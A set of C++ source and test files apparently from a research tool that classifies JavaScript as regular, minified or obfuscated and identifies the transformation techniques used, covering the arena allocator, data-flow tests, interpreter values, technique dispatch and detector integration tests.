    previous_count = count;
    if (le == "+Inf") {
      saw_inf = true;
      inf_count = count;
    } else {
      const double bound = std::atof(le.c_str());
      EXPECT_GT(bound, previous_le) << line;
      previous_le = bound;
    }
  }
  EXPECT_TRUE(saw_inf);
  EXPECT_EQ(inf_count, 3u);
  EXPECT_NE(text.find("jst_pc_ms_count 3\n"), std::string::npos);
}

// --- prediction telemetry (recorded by the pipeline) ---

TEST(ObsSmoke, PredictionTelemetryCountsVerdictsAndConfidences) {
  obs::MetricsRegistry& registry = obs::MetricsRegistry::global();
  const auto verdicts_total = [&] {
    return registry.counter("jst_predict_transformed_total").value() +
           registry.counter("jst_predict_regular_total").value();
  };
  obs::Histogram& confidence = registry.histogram(
      "jst_predict_identifier_obfuscation_confidence");

  const std::uint64_t verdicts_before = verdicts_total();
  const std::uint64_t confidences_before = confidence.count();

  const analysis::AnalyzerService service(smoke_analyzer());
  std::vector<std::string> sources = smoke_sources();  // last = parse error
  const std::size_t predicted = sources.size() - 1;
  analysis::BatchOptions options;
  options.threads = 1;
  service.analyze_batch(analysis::make_source_requests(sources), options);

  // One level-1 verdict and one per-technique confidence observation per
  // script that reached inference; the parse-error script records none.
  EXPECT_EQ(verdicts_total(), verdicts_before + predicted);
  EXPECT_EQ(confidence.count(), confidences_before + predicted);
  EXPECT_EQ(confidence.layout(), obs::HistogramLayout::kUnit);
  // Confidences are probabilities: the histogram never saw a value > 1.
  EXPECT_LE(confidence.max(), 1.0 + 1e-9);

  // The per-technique series exist for all ten techniques.
  const std::string json = registry.to_json();
  for (transform::Technique technique : transform::all_techniques()) {
    const std::string name(transform::technique_name(technique));
    EXPECT_NE(json.find("jst_predict_" + name + "_total"),
              std::string::npos)
        << name;
    EXPECT_NE(json.find("jst_predict_" + name + "_confidence"),
              std::string::npos)
        << name;
  }
}

}  // namespace
}  // namespace jst
