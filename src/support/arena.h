// Monotonic bump allocator backing the parse front end (DESIGN.md §12).
//
// One Arena serves one script at a time: the lexer copies the source into
// it, tokens carry string_views into that copy (or into arena-cooked
// storage when unescaping was needed), and the AST places its nodes and
// kid arrays in the same chunks. reset() is an O(chunks) rewind that
// keeps every chunk for the next script, so a pooled per-worker arena
// (analysis::ScriptScratch) makes steady-state lex+parse allocation-free
// — the same reuse discipline ExtractScratch gives feature extraction.
//
// Allocation never runs destructors: everything placed in an arena must
// be trivially destructible (static_asserted in alloc_array). Addresses
// are stable for the lifetime of the epoch — chunks never move or grow
// in place — which is what lets Node* survive finalize() and transformer
// passes.
#pragma once

#include <cstddef>
#include <cstdint>
#include <string_view>
#include <type_traits>
#include <vector>

namespace jst::support {

class Arena {
 public:
  // First chunk size; subsequent chunks double up to kMaxChunkBytes.
  static constexpr std::size_t kMinChunkBytes = 64 * 1024;
  static constexpr std::size_t kMaxChunkBytes = 8 * 1024 * 1024;

  Arena() = default;
  ~Arena();

  Arena(const Arena&) = delete;
  Arena& operator=(const Arena&) = delete;

  // Raw aligned allocation. Alignment must be a power of two.
  void* allocate(std::size_t bytes, std::size_t align);

  // Typed uninitialized array. T must be trivially destructible because
  // reset() reclaims memory without running destructors.
  template <typename T>
  T* alloc_array(std::size_t count) {
    static_assert(std::is_trivially_destructible_v<T>,
                  "arena memory is reclaimed without running destructors");
    if (count == 0) return nullptr;
    return static_cast<T*>(allocate(count * sizeof(T), alignof(T)));
  }

  // Uninitialized character storage (no alignment padding).
  char* alloc_chars(std::size_t count) {
    return static_cast<char*>(allocate(count, 1));
  }

  // Copies `text` into the arena and returns a view of the stable copy.
  std::string_view alloc_string(std::string_view text);

  // O(chunks) epoch reset: rewinds every chunk's cursor but frees
  // nothing, so the next script reuses the grown capacity. All views and
  // pointers into the arena are invalidated.
  void reset();

  // Bytes handed out since the last reset (includes alignment padding).
  std::size_t bytes_used() const { return bytes_used_; }
  // High-water mark of bytes_used() across all epochs.
  std::size_t peak_bytes() const { return peak_bytes_; }
  // Total chunk capacity owned (survives reset()).
  std::size_t capacity_bytes() const { return capacity_bytes_; }
  // Number of reset() calls; epoch() > 0 on a pooled arena means reuse.
  std::uint64_t epoch() const { return epoch_; }

 private:
  struct Chunk {
    char* data = nullptr;
    std::size_t size = 0;
  };

  // Out-of-line slow path: advances to (or allocates) the next chunk.
  void* allocate_slow(std::size_t bytes, std::size_t align);

  std::vector<Chunk> chunks_;
  std::size_t active_ = 0;   // index of the chunk being bumped
  char* cursor_ = nullptr;   // next free byte in the active chunk
  char* limit_ = nullptr;    // end of the active chunk
  std::size_t bytes_used_ = 0;
  std::size_t peak_bytes_ = 0;
  std::size_t capacity_bytes_ = 0;
  std::uint64_t epoch_ = 0;
};

// Append-only growable array living entirely in an Arena: the bump-alloc
// analogue of a small std::vector. Growth allocates a doubled block and
// copies; the abandoned block is reclaimed at the next reset() (bounded
// 2x transient waste). Used by the lexer to cook escaped payloads and to
// build template quasi/expression spans without touching the heap.
template <typename T>
class ArenaVec {
 public:
  explicit ArenaVec(Arena& arena) : arena_(&arena) {}

  void push_back(const T& value) {
    if (size_ == capacity_) grow(1);
    data_[size_++] = value;
  }

  void append(const T* values, std::size_t count) {
    if (size_ + count > capacity_) grow(count);
    for (std::size_t i = 0; i < count; ++i) data_[size_ + i] = values[i];
    size_ += count;
  }

  const T* data() const { return data_; }
  std::size_t size() const { return size_; }
  bool empty() const { return size_ == 0; }

 private:
  void grow(std::size_t at_least) {
    std::size_t next = capacity_ == 0 ? 16 : capacity_ * 2;
    while (next < size_ + at_least) next *= 2;
    T* grown = arena_->alloc_array<T>(next);
    for (std::size_t i = 0; i < size_; ++i) grown[i] = data_[i];
    data_ = grown;
    capacity_ = next;
  }

  Arena* arena_;
  T* data_ = nullptr;
  std::size_t size_ = 0;
  std::size_t capacity_ = 0;
};

}  // namespace jst::support
