#include "transform/transform.h"

#include "support/error.h"

namespace jst::transform {

std::string apply_technique(Technique technique, std::string_view source,
                            Rng& rng) {
  switch (technique) {
    case Technique::kIdentifierObfuscation:
      return obfuscate_identifiers(source, rng);
    case Technique::kStringObfuscation:
      return obfuscate_strings(source, rng);
    case Technique::kGlobalArray:
      return global_array_transform(source, rng);
    case Technique::kNoAlphanumeric:
      return no_alnum_transform(source);
    case Technique::kDeadCodeInjection:
      return inject_dead_code(source, rng);
    case Technique::kControlFlowFlattening:
      return flatten_control_flow(source, rng);
    case Technique::kSelfDefending:
      return add_self_defending(source, rng);
    case Technique::kDebugProtection:
      return add_debug_protection(source, rng);
    case Technique::kMinificationSimple: {
      MinifyOptions options;
      options.advanced = false;
      return minify(source, options);
    }
    case Technique::kMinificationAdvanced: {
      MinifyOptions options;
      options.advanced = true;
      return minify(source, options);
    }
  }
  throw InvalidArgument("apply_technique: unknown technique");
}

std::string apply_techniques(std::span<const Technique> techniques,
                             std::string_view source, Rng& rng) {
  std::string current(source);
  for (Technique technique : techniques) {
    current = apply_technique(technique, current, rng);
  }
  return current;
}

std::vector<Technique> labels_produced(Technique technique) {
  // Mirrors what each transformer actually emits. The obfuscator.io-family
  // tools always compact their output (and some rename identifiers), so a
  // single configuration carries up to three ground-truth labels — exactly
  // the property the paper reports for its tool configurations (§III-E1).
  switch (technique) {
    case Technique::kGlobalArray:
      // Encoded string array + compact output.
      return {Technique::kGlobalArray, Technique::kStringObfuscation,
              Technique::kMinificationSimple};
    case Technique::kDeadCodeInjection:
      // Injection + hex renaming + compact output.
      return {Technique::kDeadCodeInjection,
              Technique::kIdentifierObfuscation,
              Technique::kMinificationSimple};
    case Technique::kControlFlowFlattening:
      // Dispatcher + hex renaming + compact output.
      return {Technique::kControlFlowFlattening,
              Technique::kIdentifierObfuscation,
              Technique::kMinificationSimple};
    case Technique::kSelfDefending:
      // Self-defending only works on compact output.
      return {Technique::kSelfDefending, Technique::kMinificationSimple};
    case Technique::kDebugProtection:
      // Ships with compact output.
      return {Technique::kDebugProtection, Technique::kMinificationSimple};
    case Technique::kMinificationAdvanced:
      // Closure-style advanced minification subsumes the simple passes.
      return {Technique::kMinificationAdvanced,
              Technique::kMinificationSimple};
    default:
      return {technique};
  }
}

}  // namespace jst::transform
