#include <gtest/gtest.h>

#include <algorithm>

#include "dataflow/dataflow.h"
#include "parser/parser.h"

namespace jst {
namespace {

struct Built {
  ParseResult parse;
  DataFlow flow;
};

Built build(std::string_view source) {
  Built out;
  out.parse = parse_program(source);
  out.flow = build_data_flow(out.parse.ast);
  return out;
}

const Binding* find_binding(const Built& built, std::string_view name) {
  for (const Binding& binding : built.flow.bindings) {
    if (binding.name == name) return &binding;
  }
  return nullptr;
}

TEST(DataFlow, SimpleDefUse) {
  const Built built = build("var a = 1; use(a); use(a + a);");
  const Binding* a = find_binding(built, "a");
  ASSERT_NE(a, nullptr);
  EXPECT_EQ(a->uses.size(), 3u);
  EXPECT_EQ(built.flow.edge_count(), 3u);  // decl -> each use
}

TEST(DataFlow, AssignmentsAreExtraDefs) {
  const Built built = build("var a = 1; a = 2; use(a);");
  const Binding* a = find_binding(built, "a");
  ASSERT_NE(a, nullptr);
  EXPECT_EQ(a->assignments.size(), 1u);
  EXPECT_EQ(a->uses.size(), 1u);
  // decl -> use and write -> use.
  EXPECT_EQ(built.flow.edge_count(), 2u);
}

TEST(DataFlow, CompoundAssignmentReadsAndWrites) {
  const Built built = build("var a = 0; a += 1;");
  const Binding* a = find_binding(built, "a");
  ASSERT_NE(a, nullptr);
  EXPECT_EQ(a->assignments.size(), 1u);
  EXPECT_EQ(a->uses.size(), 1u);  // the compound read
}

TEST(DataFlow, UpdateExpressionReadsAndWrites) {
  const Built built = build("var i = 0; i++;");
  const Binding* i = find_binding(built, "i");
  ASSERT_NE(i, nullptr);
  EXPECT_EQ(i->assignments.size(), 1u);
  EXPECT_EQ(i->uses.size(), 1u);
}

TEST(DataFlow, FunctionScoping) {
  const Built built = build(
      "var x = 1; function f() { var x = 2; return x; } use(x);");
  // Two distinct bindings named x.
  std::size_t x_count = 0;
  for (const Binding& binding : built.flow.bindings) {
    if (binding.name == "x") ++x_count;
  }
  EXPECT_EQ(x_count, 2u);
}

TEST(DataFlow, InnerUseResolvesToInnerBinding) {
  const Built built = build("var x = 1; function f() { var x = 2; use(x); }");
  for (const Binding& binding : built.flow.bindings) {
    if (binding.name != "x") continue;
    if (binding.declaration != nullptr && binding.declaration->line == 1 &&
        binding.uses.empty()) {
      SUCCEED();
      return;
    }
  }
  // The outer x must have no recorded uses.
  std::size_t outer_uses = 999;
  for (const Binding& binding : built.flow.bindings) {
    if (binding.name == "x" && binding.uses.empty()) outer_uses = 0;
  }
  EXPECT_EQ(outer_uses, 0u);
}

TEST(DataFlow, ClosureCapturesOuter) {
  const Built built =
      build("var captured = 1; function f() { return captured; }");
  const Binding* captured = find_binding(built, "captured");
  ASSERT_NE(captured, nullptr);
  EXPECT_EQ(captured->uses.size(), 1u);
}

TEST(DataFlow, ParametersAreBindings) {
  const Built built = build("function f(p, q) { return p + q; }");
  const Binding* p = find_binding(built, "p");
  ASSERT_NE(p, nullptr);
  EXPECT_TRUE(p->is_parameter);
  EXPECT_EQ(p->uses.size(), 1u);
}

TEST(DataFlow, VarHoistingThroughBlocks) {
  const Built built = build("function f() { { var h = 1; } return h; }");
  const Binding* h = find_binding(built, "h");
  ASSERT_NE(h, nullptr);
  EXPECT_EQ(h->uses.size(), 1u);  // resolved despite the block
}

TEST(DataFlow, LetIsBlockScoped) {
  const Built built = build(
      "let y = 1; { let y = 2; inner(y); } outer(y);");
  std::size_t bindings_named_y = 0;
  for (const Binding& binding : built.flow.bindings) {
    if (binding.name == "y") {
      ++bindings_named_y;
      EXPECT_EQ(binding.uses.size(), 1u);
    }
  }
  EXPECT_EQ(bindings_named_y, 2u);
}

TEST(DataFlow, CatchParameterScoped) {
  const Built built = build("try { f(); } catch (e) { log(e); } ");
  const Binding* e = find_binding(built, "e");
  ASSERT_NE(e, nullptr);
  EXPECT_EQ(e->uses.size(), 1u);
}

TEST(DataFlow, UnresolvedGlobalsCounted) {
  const Built built = build("console.log(window.location);");
  EXPECT_GE(built.flow.unresolved_uses, 2u);  // console, window
}

TEST(DataFlow, PropertyNamesAreNotReferences) {
  const Built built = build("var obj = {}; obj.prop = 1; use(obj.prop);");
  EXPECT_EQ(find_binding(built, "prop"), nullptr);
  const Binding* obj = find_binding(built, "obj");
  ASSERT_NE(obj, nullptr);
  EXPECT_EQ(obj->uses.size(), 2u);
}

TEST(DataFlow, ComputedMemberKeyIsReference) {
  const Built built = build("var key = 'a'; var o = {}; use(o[key]);");
  const Binding* key = find_binding(built, "key");
  ASSERT_NE(key, nullptr);
  EXPECT_EQ(key->uses.size(), 1u);
}

TEST(DataFlow, InitializerRecorded) {
  const Built built = build("var table = [1, 2, 3]; use(table);");
  const Binding* table = find_binding(built, "table");
  ASSERT_NE(table, nullptr);
  ASSERT_NE(table->init, nullptr);
  EXPECT_EQ(table->init->kind, NodeKind::kArrayExpression);
}

TEST(DataFlow, FunctionNameBinding) {
  const Built built = build("function helper() {} helper();");
  const Binding* helper = find_binding(built, "helper");
  ASSERT_NE(helper, nullptr);
  EXPECT_TRUE(helper->is_function_name);
  EXPECT_EQ(helper->uses.size(), 1u);
}

TEST(DataFlow, ForLoopVariable) {
  const Built built = build("for (var i = 0; i < 3; i++) { use(i); }");
  const Binding* i = find_binding(built, "i");
  ASSERT_NE(i, nullptr);
  EXPECT_GE(i->uses.size(), 2u);  // test + body (update is read+write)
}

TEST(DataFlow, ForOfLoopVariableWritten) {
  const Built built = build("for (const item of list) { use(item); }");
  const Binding* item = find_binding(built, "item");
  ASSERT_NE(item, nullptr);
  EXPECT_EQ(item->uses.size(), 1u);
  EXPECT_EQ(item->assignments.size(), 1u);  // written by the loop
}

TEST(DataFlow, ShadowingParameterNotConfused) {
  const Built built =
      build("var v = 1; function f(v) { return v; } use(v);");
  std::size_t total_v_uses = 0;
  for (const Binding& binding : built.flow.bindings) {
    if (binding.name == "v") total_v_uses += binding.uses.size();
  }
  EXPECT_EQ(total_v_uses, 2u);
}

TEST(DataFlow, DestructuredBindings) {
  const Built built = build("var { a, b: renamed } = src; use(a, renamed);");
  EXPECT_NE(find_binding(built, "a"), nullptr);
  EXPECT_NE(find_binding(built, "renamed"), nullptr);
  EXPECT_EQ(find_binding(built, "b"), nullptr);
}

TEST(DataFlow, NodeBudgetSkipsAnalysis) {
  ParseResult parsed = parse_program("var a = 1; use(a);");
  DataFlowOptions options;
  options.node_budget = 1;
  const DataFlow flow = build_data_flow(parsed.ast, options);
  EXPECT_FALSE(flow.completed);
  EXPECT_EQ(flow.edge_count(), 0u);
}

TEST(DataFlow, ScopeCountGrowsWithNesting) {
  const Built flat = build("var a = 1;");
  const Built nested = build(
      "function f() { { let x = 1; } } function g() { try {} catch (e) {} }");
  EXPECT_GT(nested.flow.scope_count, flat.flow.scope_count);
}

}  // namespace
}  // namespace jst
