# Empty compiler generated dependencies file for jst_corpus.
# This may be replaced when dependencies are built.
