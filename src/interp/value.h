// JavaScript value model for the reference interpreter.
//
// The interpreter exists to *test* the transformation tools: a transformed
// program must behave identically to its original. It covers the dynamic
// semantics the transformers can affect — numbers, strings, booleans,
// objects/arrays, closures, prototypes are NOT modeled (no `class` at
// runtime, no getters in the value model) — enough to execute the corpus
// fixtures and every transformer's output except the eval-based ones.
#pragma once

#include <functional>
#include <map>
#include <memory>
#include <string>
#include <variant>
#include <vector>

#include "ast/ast.h"

namespace jst::interp {

class Environment;
struct JsObject;
struct JsFunction;

struct Undefined {
  bool operator==(const Undefined&) const = default;
};
struct Null {
  bool operator==(const Null&) const = default;
};

using ObjectPtr = std::shared_ptr<JsObject>;
using FunctionPtr = std::shared_ptr<JsFunction>;

using Value = std::variant<Undefined, Null, bool, double, std::string,
                           ObjectPtr, FunctionPtr>;

// Ordinary object; arrays are objects with `is_array` and dense `elements`.
struct JsObject {
  bool is_array = false;
  std::vector<Value> elements;             // when is_array
  std::map<std::string, Value> properties; // named properties

  Value get(const std::string& key) const;
  void set(const std::string& key, Value value);
};

class Interpreter;

// User function (AST + closure) or native builtin.
struct JsFunction {
  std::string name;
  const Node* declaration = nullptr;       // FunctionDecl/Expr/Arrow
  std::shared_ptr<Environment> closure;
  bool is_arrow = false;
  // Native: called with (interpreter, this, args).
  std::function<Value(Interpreter&, const Value&, const std::vector<Value>&)>
      native;
};

// --- conversions (ES-like semantics, simplified) ---
bool to_boolean(const Value& value);
double to_number(const Value& value);
std::string to_string_value(const Value& value);
std::string type_of(const Value& value);
bool strict_equals(const Value& a, const Value& b);
bool loose_equals(const Value& a, const Value& b);

// Makes a fresh array object.
ObjectPtr make_array(std::vector<Value> elements = {});

// Raised inside the interpreter for `throw` and runtime errors; carries
// the thrown JS value.
struct ThrownValue {
  Value value;
};

// Raised when a program exceeds the step budget or uses an unsupported
// feature.
class InterpreterError : public std::runtime_error {
 public:
  using std::runtime_error::runtime_error;
};

}  // namespace jst::interp
