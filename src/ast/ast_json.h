// Esprima-style JSON serialization of the AST.
//
// Produces the familiar ESTree shape ({"type": "Program", "body": [...]})
// so downstream tooling (or a Python notebook reproducing the paper's
// plots) can consume jstraced's trees directly.
#pragma once

#include <string>

#include "ast/ast.h"

namespace jst {

// Serializes a (sub)tree. `pretty` adds two-space indentation.
std::string ast_to_json(const Node* root, bool pretty = false);

}  // namespace jst
