// End-to-end tests: train the two detectors on a small synthesized corpus
// and verify the paper's qualitative results hold — level 1 separates
// regular from transformed scripts with high accuracy, level 2 recovers
// the techniques, and the detectors generalize to the unseen packer.
#include <gtest/gtest.h>

#include <algorithm>

#include "analysis/pipeline.h"
#include "analysis/service.h"
#include "analysis/wild.h"
#include "ml/metrics.h"
#include "transform/transform.h"

namespace jst::analysis {
namespace {

using transform::Technique;

// Small-but-meaningful training configuration shared by the tests
// (train once; the fixture object is reused across tests in this file).
const TransformationAnalyzer& shared_analyzer() {
  static const TransformationAnalyzer* kAnalyzer = [] {
    PipelineOptions options;
    options.training_regular_count = 70;
    options.per_technique_count = 14;
    options.seed = 20240701;
    options.detector.forest.tree_count = 24;
    options.detector.features.ngram.hash_dim = 256;
    auto* analyzer = new TransformationAnalyzer(options);
    analyzer->train();
    return analyzer;
  }();
  return *kAnalyzer;
}

std::vector<std::string> held_out_regular(std::size_t count,
                                          std::uint64_t seed) {
  CorpusSpec spec;
  spec.regular_count = count;
  spec.seed = seed;  // different seed -> disjoint from training corpus
  return generate_regular_corpus(spec);
}

TEST(Integration, TrainsSuccessfully) {
  EXPECT_TRUE(shared_analyzer().trained());
}

TEST(Integration, AnalyzeRejectsGarbage) {
  const ScriptReport report = shared_analyzer().analyze("var = ;;; {{{");
  EXPECT_EQ(report.status, ScriptStatus::kParseError);
  EXPECT_TRUE(report.parse_failed());
}

TEST(Integration, Level1SeparatesRegularFromTransformed) {
  const auto& analyzer = shared_analyzer();
  const auto regular = held_out_regular(24, 777);

  std::size_t regular_correct = 0;
  for (const std::string& source : regular) {
    const ScriptReport report = analyzer.analyze(source);
    ASSERT_FALSE(report.parse_failed());
    if (report.level1.regular()) ++regular_correct;
  }

  Rng rng(88);
  std::size_t transformed_correct = 0;
  std::size_t transformed_total = 0;
  for (const std::string& source : regular) {
    for (Technique technique :
         {Technique::kMinificationSimple, Technique::kIdentifierObfuscation,
          Technique::kControlFlowFlattening}) {
      const Sample sample = make_transformed_sample(source, technique, rng);
      const ScriptReport report = analyzer.analyze(sample.source);
      ++transformed_total;
      if (report.level1.transformed()) ++transformed_correct;
    }
  }

  // Paper: 98.65% regular / 99.7% transformed at full scale; at this toy
  // scale we require strong but looser separation.
  EXPECT_GE(regular_correct * 10, regular.size() * 8)
      << regular_correct << "/" << regular.size();
  EXPECT_GE(transformed_correct * 10, transformed_total * 9)
      << transformed_correct << "/" << transformed_total;
}

TEST(Integration, Level2RecoversDominantTechniques) {
  const auto& analyzer = shared_analyzer();
  const auto bases = held_out_regular(10, 991);
  Rng rng(99);

  // For clearly distinguishable techniques, the top prediction should be a
  // true label most of the time.
  const std::vector<Technique> probes = {
      Technique::kMinificationSimple, Technique::kNoAlphanumeric,
      Technique::kControlFlowFlattening, Technique::kDebugProtection};
  std::size_t top1_hits = 0;
  std::size_t total = 0;
  for (const std::string& base : bases) {
    for (Technique technique : probes) {
      const Sample sample = make_transformed_sample(base, technique, rng);
      const ScriptReport report = analyzer.analyze(sample.source);
      ASSERT_FALSE(report.parse_failed());
      const auto top1 = analyzer.level2().predict_topk(
          features::extract_from_source(
              sample.source, analyzer.options().detector.features),
          1);
      ASSERT_EQ(top1.size(), 1u);
      ++total;
      if (std::find(sample.techniques.begin(), sample.techniques.end(),
                    top1[0]) != sample.techniques.end()) {
        ++top1_hits;
      }
    }
  }
  EXPECT_GE(top1_hits * 10, total * 7) << top1_hits << "/" << total;
}

TEST(Integration, ThresholdLimitsWrongLabels) {
  const auto& analyzer = shared_analyzer();
  const auto bases = held_out_regular(8, 1313);
  Rng rng(131);
  double wrong_total = 0.0;
  std::size_t count = 0;
  for (const std::string& base : bases) {
    const Sample sample = make_mixed_sample(base, 2, rng);
    const ScriptReport report = analyzer.analyze(sample.source);
    ASSERT_FALSE(report.parse_failed());
    const auto truth = indices_from_techniques(sample.techniques);
    const auto predicted = indices_from_techniques(report.techniques);
    wrong_total += static_cast<double>(ml::wrong_labels(predicted, truth));
    ++count;
  }
  // Paper (Figure 1b): < 0.32 wrong labels on average at threshold 10%
  // (at full training scale); the toy-scale bound is looser.
  EXPECT_LT(wrong_total / static_cast<double>(count), 2.5);
}

TEST(Integration, PackerDetectedAsTransformed) {
  const auto& analyzer = shared_analyzer();
  const auto bases = held_out_regular(10, 555);
  Rng rng(555);
  std::size_t detected = 0;
  for (const std::string& base : bases) {
    const std::string packed = transform::pack(base, rng);
    const ScriptReport report = analyzer.analyze(packed);
    ASSERT_FALSE(report.parse_failed());
    if (report.level1.transformed()) ++detected;
  }
  // Paper §III-E3: 99.52% at full scale.
  EXPECT_GE(detected, 8u) << detected << "/10";
}

TEST(Integration, WildPopulationRatesOrdered) {
  const auto& analyzer = shared_analyzer();
  const auto measure = [&analyzer](const PopulationSpec& spec,
                                   std::size_t count, std::uint64_t seed) {
    const auto samples = simulate_population(spec, count, seed);
    std::size_t transformed = 0;
    std::size_t parsed = 0;
    for (const Sample& sample : samples) {
      const ScriptReport report = analyzer.analyze(sample.source);
      if (report.parse_failed()) continue;
      ++parsed;
      if (report.level1.transformed()) ++transformed;
    }
    return parsed == 0 ? 0.0
                       : static_cast<double>(transformed) /
                             static_cast<double>(parsed);
  };
  const double alexa_rate = measure(alexa_spec(), 40, 1);
  const double npm_rate = measure(npm_spec(), 40, 2);
  // Paper: Alexa 68.6% vs npm 8.7% — the ordering must be clear.
  EXPECT_GT(alexa_rate, npm_rate + 0.2);
}

TEST(Integration, ChainAndIndependentBothTrain) {
  PipelineOptions options;
  options.training_regular_count = 30;
  options.per_technique_count = 6;
  options.detector.forest.tree_count = 8;
  options.detector.features.ngram.hash_dim = 128;

  options.detector.classifier_chain = true;
  TransformationAnalyzer chain(options);
  chain.train();
  EXPECT_TRUE(chain.trained());

  options.detector.classifier_chain = false;
  TransformationAnalyzer independent(options);
  independent.train();
  EXPECT_TRUE(independent.trained());

  const std::string probe = held_out_regular(1, 31337)[0];
  EXPECT_FALSE(chain.analyze(probe).parse_failed());
  EXPECT_FALSE(independent.analyze(probe).parse_failed());
}

TEST(Service, RequiresTrainedAnalyzer) {
  const TransformationAnalyzer untrained;
  EXPECT_THROW(AnalyzerService{untrained}, ModelError);
}

TEST(Service, BatchOutcomesAlignedWithStatuses) {
  AnalyzerService service(shared_analyzer());
  std::vector<std::string> sources = held_out_regular(4, 4242);
  sources.push_back("var = ;;; {{{");            // parse error
  sources.push_back("var tiny = 1;");            // parses, under 512 bytes
  // 600 bytes but no conditional/function/call node.
  sources.push_back("var filler = \"" + std::string(600, 'a') + "\";");

  BatchOptions options;
  options.threads = 3;
  const BatchResponse result =
      service.analyze_batch(make_source_requests(sources), options);

  ASSERT_EQ(result.responses.size(), sources.size());
  for (std::size_t i = 0; i < 4; ++i) {
    EXPECT_EQ(result.responses[i].outcome.status, ScriptStatus::kOk) << i;
    EXPECT_TRUE(result.responses[i].outcome.error_message.empty());
    EXPECT_GT(result.responses[i].outcome.timing.total_ms, 0.0);
  }
  EXPECT_EQ(result.responses[4].outcome.status, ScriptStatus::kParseError);
  EXPECT_FALSE(result.responses[4].outcome.error_message.empty());
  EXPECT_EQ(result.responses[5].outcome.status, ScriptStatus::kIneligibleSize);
  EXPECT_EQ(result.responses[6].outcome.status, ScriptStatus::kIneligibleAst);
  // Ineligible-but-parseable scripts still carry predictions.
  EXPECT_FALSE(
      result.responses[5].outcome.report.technique_confidence.empty());

  const BatchStats& stats = result.stats;
  EXPECT_EQ(stats.total, sources.size());
  EXPECT_EQ(stats.ok, 4u);
  EXPECT_EQ(stats.parse_errors, 1u);
  EXPECT_EQ(stats.ineligible_size, 1u);
  EXPECT_EQ(stats.ineligible_ast, 1u);
  EXPECT_EQ(stats.threads, 3u);
  EXPECT_GT(stats.wall_ms, 0.0);
  EXPECT_GT(stats.scripts_per_second, 0.0);
  EXPECT_GT(stats.static_analysis_ms, 0.0);
  EXPECT_NEAR(stats.parse_failure_rate(), 1.0 / 7.0, 1e-12);
}

TEST(Service, BatchDeterministicAcrossThreadCounts) {
  AnalyzerService service(shared_analyzer());
  const std::vector<std::string> sources = held_out_regular(6, 7788);

  BatchOptions serial;
  serial.threads = 1;
  BatchOptions wide;
  wide.threads = 4;
  const std::vector<AnalyzeRequest> requests = make_source_requests(sources);
  const BatchResponse a = service.analyze_batch(requests, serial);
  const BatchResponse b = service.analyze_batch(requests, wide);

  ASSERT_EQ(a.responses.size(), b.responses.size());
  for (std::size_t i = 0; i < a.responses.size(); ++i) {
    const ScriptOutcome& lhs = a.responses[i].outcome;
    const ScriptOutcome& rhs = b.responses[i].outcome;
    EXPECT_EQ(lhs.status, rhs.status);
    EXPECT_DOUBLE_EQ(lhs.report.level1.p_regular, rhs.report.level1.p_regular);
    EXPECT_DOUBLE_EQ(lhs.report.level1.p_minified,
                     rhs.report.level1.p_minified);
    EXPECT_DOUBLE_EQ(lhs.report.level1.p_obfuscated,
                     rhs.report.level1.p_obfuscated);
    EXPECT_EQ(lhs.report.technique_confidence,
              rhs.report.technique_confidence);
  }
}

TEST(Service, SourceBytesLimitSkipsParsing) {
  AnalyzerService service(shared_analyzer());
  const std::vector<std::string> sources = held_out_regular(2, 9911);
  BatchOptions options;
  options.limits.max_source_bytes = 16;  // everything is larger than this
  const BatchResponse result =
      service.analyze_batch(make_source_requests(sources), options);
  for (const AnalyzeResponse& response : result.responses) {
    const ScriptOutcome& outcome = response.outcome;
    EXPECT_EQ(outcome.status, ScriptStatus::kIneligibleSize);
    ASSERT_TRUE(outcome.budget.has_value());
    EXPECT_EQ(outcome.budget->kind, ResourceKind::kSourceBytes);
    EXPECT_EQ(outcome.budget->limit, 16.0);
    EXPECT_GT(outcome.budget->observed, 16.0);
    EXPECT_NE(outcome.error_message.find("source_bytes"), std::string::npos);
    // Guarded scripts are never parsed or scored.
    EXPECT_TRUE(outcome.report.technique_confidence.empty());
  }
  EXPECT_EQ(result.stats.ineligible_size, 2u);
}

TEST(Service, EmptyBatchStatsAreWellDefined) {
  AnalyzerService service(shared_analyzer());
  const std::vector<AnalyzeRequest> requests;
  const BatchResponse result = service.analyze_batch(requests);
  const BatchStats& stats = result.stats;
  EXPECT_EQ(stats.total, 0u);
  EXPECT_EQ(stats.budget_tripped(), 0u);
  // Documented contract: every rate/percentile is 0 (not NaN) on an empty
  // batch, and to_json() stays serializable.
  EXPECT_EQ(stats.scripts_per_second, 0.0);
  EXPECT_EQ(stats.parse_failure_rate(), 0.0);
  EXPECT_EQ(stats.p50_script_ms, 0.0);
  EXPECT_EQ(stats.p95_script_ms, 0.0);
  EXPECT_EQ(stats.p99_script_ms, 0.0);
  EXPECT_EQ(stats.max_script_ms, 0.0);
  EXPECT_FALSE(stats.to_json().empty());
  EXPECT_NE(stats.to_json().find("\"total\":0"), std::string::npos);
}

}  // namespace
}  // namespace jst::analysis
