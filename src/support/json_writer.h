// Minimal streaming JSON writer, used to dump experiment results and
// feature vectors for external plotting.
#pragma once

#include <string>
#include <string_view>
#include <vector>

namespace jst {

// Builds a JSON document incrementally. Usage:
//   JsonWriter w;
//   w.begin_object();
//   w.key("accuracy"); w.value(0.9941);
//   w.key("labels"); w.begin_array(); w.value("regular"); w.end_array();
//   w.end_object();
//   std::string doc = w.str();
class JsonWriter {
 public:
  void begin_object();
  void end_object();
  void begin_array();
  void end_array();
  void key(std::string_view name);
  void value(std::string_view text);
  void value(const char* text) { value(std::string_view(text)); }
  void value(double number);
  void value(long long number);
  void value(int number) { value(static_cast<long long>(number)); }
  void value(std::size_t number) { value(static_cast<long long>(number)); }
  void value(bool flag);
  void null();
  // Splices pre-serialized JSON in value position verbatim (no escaping);
  // the caller vouches that `json` is a complete, well-formed value.
  void raw(std::string_view json);

  const std::string& str() const { return out_; }

 private:
  void maybe_comma();

  std::string out_;
  std::vector<bool> needs_comma_;  // per open container
  bool after_key_ = false;
};

}  // namespace jst
