#include "server/client.h"

#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <chrono>
#include <cstring>
#include <mutex>
#include <stdexcept>
#include <thread>

#include "support/json_writer.h"
#include "support/stats.h"

namespace jst::server {
namespace {

bool write_all(int fd, std::string_view data) {
  while (!data.empty()) {
    const ssize_t n = ::send(fd, data.data(), data.size(), MSG_NOSIGNAL);
    if (n < 0) {
      if (errno == EINTR) continue;
      return false;
    }
    data.remove_prefix(static_cast<std::size_t>(n));
  }
  return true;
}

}  // namespace

